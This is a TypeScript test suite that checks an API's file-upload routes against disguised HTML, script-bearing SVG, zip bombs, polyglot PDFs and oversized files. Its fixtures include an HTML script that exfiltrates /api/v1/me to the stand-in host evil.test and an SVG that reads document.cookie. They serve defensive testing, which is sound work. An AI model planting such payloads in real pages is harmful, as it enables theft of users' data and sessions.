import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import request, { Response } from 'supertest';
import { binaryParser, createTestApp, filledRmi, TestActor, TestApp } from '@ddp/testing';
import { workbookOfSize, zipBomb } from './fixtures/zip';
import { buildTenant, databaseChecksum, PDF, SCENARIO_NOW, Tenant } from './tenants';

const MIB = 1024 * 1024;
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const HTML = Buffer.from('<!DOCTYPE html><html><head><title>Policy</title></head><body><script>fetch("/api/v1/me").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.test", t))</script></body></html>\n');
const SVG = Buffer.from('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>\n');

interface FileToSend {
  data: Buffer;
  filename: string;
  contentType: string;
}

/** An upload route: who may call it on which record, its fields, and a file it accepts. */
interface UploadRoute {
  actor: (x: Tenant) => TestActor;
  path: (x: Tenant) => string;
  fields: Record<string, string>;
  /** Evidence takes PDFs, images and office documents; the other routes read an .xlsx workbook. */
  kind: 'evidence' | 'workbook';
  valid: (x: Tenant) => Promise<FileToSend>;
}

/** Every file under `dir`, relative (the store's files and its incoming/ folder). */
function filesUnder(dir: string, prefix = ''): string[] {
  let names: string[];
  try {
    names = readdirSync(join(dir, prefix));
  } catch {
    return [];
  }
  return names.flatMap((name) => {
    const relative = prefix ? join(prefix, name) : name;
    return statSync(join(dir, relative)).isDirectory() ? filesUnder(dir, relative) : [relative];
  }).sort();
}

/**
 * How far the resident memory of this process rose from now on. Linux keeps the high-water mark
 * (VmHWM), which `clear_refs` resets: a peak is seen even while the event loop is blocked. Elsewhere,
 * sampled every 5 ms.
 */
function peakRss(): { read(): number } {
  const base = process.memoryUsage().rss;
  const hwm = (): number | undefined => {
    try {
      const kib = /VmHWM:\s+(\d+) kB/.exec(readFileSync('/proc/self/status', 'utf8'))?.[1];
      return kib ? Number(kib) * 1024 : undefined;
    } catch {
      return undefined;
    }
  };
  try {
    writeFileSync('/proc/self/clear_refs', '5');
  } catch {
    // not Linux: sampling only
  }
  let sampled = base;
  const sampler = setInterval(() => (sampled = Math.max(sampled, process.memoryUsage().rss)), 5);
  return {
    read() {
      clearInterval(sampler);
      return Math.max(sampled, hwm() ?? 0, process.memoryUsage().rss) - base;
    },
  };
}

/** A PDF of exactly `bytes` bytes: a real PDF with a comment line as padding. */
function pdfOfSize(bytes: number): Buffer {
  const head = PDF.subarray(0, PDF.length - '%%EOF\n'.length);
  const room = bytes - head.length - '%\n%%EOF\n'.length;
  return Buffer.concat([head, Buffer.from('%'), Buffer.alloc(room, 0x41), Buffer.from('\n%%EOF\n')]);
}

/**
 * Properties of every multipart route: a file is judged by its bytes, not its name or declared
 * type (HTML and SVG never get in, whatever they are called); a zip bomb is refused quickly
 * without inflating it; a file of exactly UPLOAD_MAX_MB is taken and one byte more is a 413;
 * and a refused upload leaves no row, no stored file and no temporary file behind.
 */
describe('security: uploads', () => {
  let t: TestApp;
  let x: Tenant;
  let limit: number;
  const workbooks = new Map<string, Buffer>();
  let cmrt: Buffer | undefined;

  const download = async (actor: TestActor, path: string): Promise<Buffer> => {
    if (!workbooks.has(path)) {
      const res = await request(t.http).get(path).set('authorization', actor.auth).buffer(true).parse(binaryParser as never).expect(200);
      workbooks.set(path, res.body as Buffer);
    }
    return workbooks.get(path)!;
  };

  const ROUTES: Record<string, UploadRoute> = {
    'POST /api/v1/assessments/:id/evidence': {
      actor: (x) => x.supplier,
      path: (x) => `/api/v1/assessments/${x.draftAssessmentId}/evidence`,
      fields: { questionCode: 'MS-01', documentDate: '2027-07-01' },
      kind: 'evidence',
      valid: async () => ({ data: PDF, filename: 'policy.pdf', contentType: 'application/pdf' }),
    },
    'POST /api/v1/action-plans/:id/actions/:actionId/evidence': {
      actor: (x) => x.supplier,
      path: (x) => `/api/v1/action-plans/${x.planId}/actions/${x.actionId}/evidence`,
      fields: { documentDate: '2027-07-01' },
      kind: 'evidence',
      valid: async () => ({ data: PDF, filename: 'policy.pdf', contentType: 'application/pdf' }),
    },
    'POST /api/v1/findings/:id/evidence': {
      actor: (x) => x.buyer,
      path: (x) => `/api/v1/findings/${x.freeFindingId}/evidence`,
      fields: { documentDate: '2027-07-01' },
      kind: 'evidence',
      valid: async () => ({ data: PDF, filename: 'audit.pdf', contentType: 'application/pdf' }),
    },
    'POST /api/v1/reports/:id/attachments': {
      actor: (x) => x.supplier,
      path: (x) => `/api/v1/reports/${x.reportId}/attachments`,
      fields: { documentDate: '2027-07-01' },
      kind: 'evidence',
      valid: async () => ({ data: PDF, filename: 'report.pdf', contentType: 'application/pdf' }),
    },
    'POST /api/v1/assessments/:id/workbook': {
      actor: (x) => x.supplier,
      path: (x) => `/api/v1/assessments/${x.draftAssessmentId}/workbook`,
      fields: {},
      kind: 'workbook',
      valid: async (x) => ({ data: await download(x.supplier, `/api/v1/assessments/${x.draftAssessmentId}/workbook`), filename: 'questionnaire.xlsx', contentType: XLSX }),
    },
    'POST /api/v1/questionnaire-templates/import': {
      actor: (x) => x.buyer,
      path: () => '/api/v1/questionnaire-templates/import',
      fields: {},
      kind: 'workbook',
      valid: async (x) => ({ data: await download(x.buyer, `/api/v1/questionnaire-templates/${x.templateId}/workbook`), filename: 'template.xlsx', contentType: XLSX }),
    },
    'POST /api/v1/contracts/:id/minerals-reports': {
      actor: (x) => x.supplier,
      path: (x) => `/api/v1/contracts/${x.contractId}/minerals-reports`,
      fields: {},
      kind: 'workbook',
      valid: async () => {
        cmrt ??= await filledRmi('CMRT');
        return { data: cmrt, filename: 'cmrt.xlsx', contentType: XLSX };
      },
    },
  };
  const names = Object.keys(ROUTES);
  const evidenceRoutes = names.filter((n) => ROUTES[n].kind === 'evidence');
  const workbookRoutes = names.filter((n) => ROUTES[n].kind === 'workbook');

  beforeAll(async () => {
    t = await createTestApp({ UPLOAD_MAX_MB: '2' });
    t.clock.freeze(SCENARIO_NOW);
    x = await buildTenant(t);
    limit = t.config.UPLOAD_MAX_MB * MIB;
  }, 120_000);
  afterAll(async () => {
    t.clock.release();
    await t.close();
  });

  function send(name: string, file: FileToSend): request.Test {
    const route = ROUTES[name];
    const req = request(t.http).post(route.path(x)).set('authorization', route.actor(x).auth);
    for (const [field, value] of Object.entries(route.fields)) req.field(field, value);
    return req.attach('file', file.data, { filename: file.filename, contentType: file.contentType });
  }

  /** Runs an upload that must be refused: a problem+json 4xx, and no row, stored file or temporary file left. */
  async function refused(name: string, file: FileToSend, statuses: number[]): Promise<Response> {
    const rows = await databaseChecksum(t);
    const files = filesUnder(t.config.filesDir);
    const res = await send(name, file);
    if (!statuses.includes(res.status)) throw new Error(`${name} answered ${res.status}, not ${statuses.join('/')}: ${JSON.stringify(res.body)}`);
    expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(JSON.stringify(res.body)).not.toMatch(/\n\s+at |node_modules/);
    expect(await databaseChecksum(t)).toEqual(rows);
    expect(filesUnder(t.config.filesDir)).toEqual(files);
    expect(filesUnder(join(t.config.filesDir, 'incoming'))).toEqual([]);
    return res;
  }

  it('covers every multipart route the api documents', async () => {
    const doc = (await request(t.http).get('/api/docs-json').expect(200)).body as { paths: Record<string, Record<string, { requestBody?: { content: Record<string, unknown> } }>> };
    const multipart = Object.entries(doc.paths).flatMap(([path, operations]) =>
      Object.entries(operations)
        .filter(([, operation]) => operation.requestBody?.content['multipart/form-data'])
        .map(([method]) => `${method.toUpperCase()} ${path.replace(/\{(\w+)\}/g, ':$1')}`),
    );
    expect(multipart.sort()).toEqual([...names].sort());
  });

  describe.each(names)('%s', (name) => {
    const disguises = (kind: UploadRoute['kind']): Array<[string, FileToSend]> => {
      const [ext, type] = kind === 'evidence' ? ['pdf', 'application/pdf'] : ['xlsx', XLSX];
      return [
        [`HTML named .${ext} and declared ${type}`, { data: HTML, filename: `policy.${ext}`, contentType: type }],
        [`HTML with a byte-order mark and blank lines first, named .${ext}`, { data: Buffer.concat([Buffer.from('\ufeff\n\n  '), HTML]), filename: `policy.${ext}`, contentType: type }],
        ['an SVG with a script', { data: SVG, filename: 'logo.svg', contentType: 'image/svg+xml' }],
        [`an SVG with a script named .${kind === 'evidence' ? 'png' : ext}`, { data: SVG, filename: kind === 'evidence' ? 'logo.png' : `logo.${ext}`, contentType: kind === 'evidence' ? 'image/png' : type }],
      ];
    };

    it('refuses HTML and SVG however they are named or declared (415 problem+json), storing nothing', async () => {
      for (const [label, file] of disguises(ROUTES[name].kind)) {
        const res = await refused(name, file, [415]);
        expect({ label, code: res.body.code, fields: (res.body.errors ?? []).map((e: { field: string }) => e.field) }).toEqual({ label, code: 'unsupported_file_type', fields: ['file'] });
      }
    });

    it('takes a file of exactly the size limit, and answers one byte more with 413 problem+json, storing nothing', async () => {
      const route = ROUTES[name];
      const valid = await route.valid(x);
      const exact = route.kind === 'evidence' ? pdfOfSize(limit) : await workbookOfSize(valid.data, limit);
      const over = route.kind === 'evidence' ? pdfOfSize(limit + 1) : await workbookOfSize(valid.data, limit + 1);
      expect([exact.length, over.length]).toEqual([limit, limit + 1]);

      const tooLarge = await refused(name, { ...valid, data: over }, [413]);
      expect(tooLarge.body).toMatchObject({ status: 413, code: 'file_too_large' });

      const accepted = await send(name, { ...valid, data: exact });
      if (accepted.status >= 300) throw new Error(`${name} refused a file of exactly the limit: ${accepted.status} ${JSON.stringify(accepted.body)}`);
      expect(filesUnder(join(t.config.filesDir, 'incoming'))).toEqual([]);
    }, 60_000);
  });

  describe.each(workbookRoutes)('%s', (name) => {
    /** Runs a refused upload and measures it; the api runs in this process, so its memory is ours. */
    async function measured(file: FileToSend): Promise<{ res: Response; ms: number; grewBy: number }> {
      global.gc?.();
      const peak = peakRss();
      const started = Date.now();
      const res = await refused(name, file, [413, 415, 422]);
      const ms = Date.now() - started;
      return { res, ms, grewBy: peak.read() };
    }

    it('refuses a zip bomb (a sheet inflating to 1 GiB, about 1 MB on disk) with a quick 413, without inflating it', async () => {
      const bomb = await zipBomb((await ROUTES[name].valid(x)).data, 1024);
      expect(bomb.length).toBeLessThan(limit);
      const { res, ms, grewBy } = await measured({ data: bomb, filename: 'bomb.xlsx', contentType: XLSX });
      expect(res.status).toBe(413);
      expect(res.body).toMatchObject({ code: 'file_too_large', errors: [{ field: 'file' }] });
      expect(ms).toBeLessThan(10_000);
      expect(grewBy).toBeLessThan(200 * MIB);
    }, 60_000);

    it('refuses a zip bomb whose headers claim a small sheet, without inflating it', async () => {
      const bomb = await zipBomb((await ROUTES[name].valid(x)).data, 1024, 64 * 1024);
      const { res, ms, grewBy } = await measured({ data: bomb, filename: 'liar.xlsx', contentType: XLSX });
      expect(res.body.errors).toEqual([expect.objectContaining({ field: 'file' })]);
      expect(bomb.length).toBeLessThan(limit);
      expect(ms).toBeLessThan(10_000);
      expect(grewBy).toBeLessThan(200 * MIB);
    }, 60_000);
  });

  describe('what is accepted is served as an attachment that no browser renders as a page', () => {
    const polyglot = Buffer.concat([Buffer.from('%PDF-1.4\n'), HTML, Buffer.from('\n%%EOF\n')]);

    it.each(evidenceRoutes)('%s: a PDF whose body is HTML is typed a PDF and downloaded with nosniff, attachment and a CSP', async (name) => {
      const res = await send(name, { data: polyglot, filename: 'policy.html', contentType: 'text/html' });
      if (res.status >= 400) {
        // Refusing it is as good, if it is a clean problem.
        expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
        return;
      }
      expect(res.body.contentType).toBe('application/pdf');
      const file = await request(t.http).get(`/api/v1/evidence/${res.body.id}`).set('authorization', ROUTES[name].actor(x).auth).buffer(true).parse(binaryParser as never).expect(200);
      expect(file.headers['content-type']).toBe('application/pdf');
      expect(file.headers['content-disposition']).toMatch(/^attachment;/);
      expect(file.headers['x-content-type-options']).toBe('nosniff');
      expect(file.headers['content-security-policy']).toMatch(/default-src 'none'|sandbox/);
    });
  });
});
